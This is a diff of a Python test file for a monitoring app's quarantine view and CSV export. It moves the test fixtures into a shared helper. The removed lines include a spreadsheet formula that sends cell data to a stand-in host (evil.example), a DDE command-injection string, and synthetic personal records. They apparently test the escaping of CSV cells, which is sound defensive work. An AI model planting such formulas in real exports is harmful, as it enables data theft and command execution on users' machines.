@@ -5,51 +5,25 @@ from __future__ import annotations
 
 import csv
 import io
-import json
 import re
 from collections.abc import Iterator
 from pathlib import Path
 
-import pyarrow as pa
 import pytest
 import sqlalchemy as sa
 from fastapi.testclient import TestClient
-from monitor_signin import csrf_token, sign_in
 
 from exchange.log import ExchangeEvent
 from govhub.db import engine_for, get_engine, migrate
 from govhub.delivery_runner import open_lake
 from govhub.settings import get_settings, reset_settings
-from quality.verdict import QUARANTINE_SCHEMA
 from schemas import load_contract
+from tests.monitor_support import CITIZEN_ID, FORMULA, NAME, PHONE, csrf_token, hostile_quarantine, sign_in
 from web import create_app
 from web.monitor import create_admin
 from web.monitor.quarantine import content_disposition, csv_cell
 
 ADMIN, PII_ADMIN, PASSWORD = "admin", "auditor", "monitor-pass-1"
-CITIZEN_ID, NAME, PHONE = "430902199001011234", "张三丰", "13907370001"
-ADDRESS = "湖南省益阳市赫山区龙岭大道1号"
-FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"点击")'
-
-
-def _quarantine_rows() -> pa.Table:
-    record = {"id_number": CITIZEN_ID, "name": NAME, "phone": PHONE, "household_address": ADDRESS,
-              "status": FORMULA, "region_code": "-12.5"}  # fmt: skip
-    reasons = [
-        {"rule": "gb11643", "field": "id_number", "value": CITIZEN_ID, "severity": "error", "dimension": "accuracy",
-         "message": f"公民身份号码 {CITIZEN_ID} 校验位错误"},
-        {"rule": "enum", "field": "status", "value": FORMULA, "severity": "error", "dimension": "conformance",
-         "message": "人员状态不在代码表中"},
-        {"rule": "range", "field": "region_code", "value": "-12.5", "severity": "error", "dimension": "accuracy",
-         "message": "区划代码超出范围"},
-        {"rule": "检查规则", "field": "name", "value": "+cmd|' /C calc'!A0", "severity": "error",
-         "dimension": "accuracy", "message": "@SUM(1+1)"},
-    ]  # fmt: skip
-    return pa.Table.from_pylist(
-        [{"row_key": CITIZEN_ID, "source_file": None, "source_line": None,
-          "record": json.dumps(record, ensure_ascii=False), "reasons": reasons}],
-        schema=QUARANTINE_SCHEMA,
-    )  # fmt: skip
 
 
 @pytest.fixture
@@ -59,7 +33,7 @@ def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
     migrate()
     create_admin(get_settings().keys_dir, ADMIN, PASSWORD)
     create_admin(get_settings().keys_dir, PII_ADMIN, PASSWORD, may_see_pii=True)
-    open_lake().quarantine(load_contract("person")).write(_quarantine_rows(), run_seq=1, run_id="run-1")
+    open_lake().quarantine(load_contract("person")).write(hostile_quarantine(), run_seq=1, run_id="run-1")
     yield tmp_path / "hub"
     engine_for(get_settings().metadata_url).dispose()
     reset_settings()
